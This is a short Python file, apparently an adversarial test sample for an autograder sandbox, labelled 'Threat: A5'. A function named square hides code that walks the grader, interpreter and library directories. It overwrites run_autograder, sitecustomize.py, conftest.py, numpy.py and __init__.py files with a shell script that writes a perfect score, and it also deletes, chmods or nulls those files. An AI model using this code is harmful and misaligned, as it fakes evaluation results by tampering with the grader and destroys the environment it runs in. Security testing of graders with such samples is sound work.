"""Replaces run_autograder, the graders, the engine and the libraries for the next run.

Threat: A5.
"""

import os
import sys
from pathlib import Path

EVIL = b"#!/bin/sh\necho '{\"score\": 10}' > /autograder/results/results.json\n"


def square(x):
    places = [Path("/autograder"), Path(sys.prefix), Path(sys.prefix).parent]
    places += [Path(entry) for entry in sys.path] + [Path(module.__file__).parent for module in list(sys.modules.values()) if getattr(module, "__file__", None)]
    for place in dict.fromkeys(places):
        for name in ("run_autograder", "source/run_autograder", "sitecustomize.py", "usercustomize.py", "evil.pth", "numpy.py", "conftest.py", "__init__.py"):
            for act in (lambda p: p.write_bytes(EVIL), lambda p: p.unlink(), lambda p: p.chmod(0o777), lambda p: os.symlink("/dev/null", p)):
                try:
                    act(place / name)
                except OSError:
                    pass
    return x
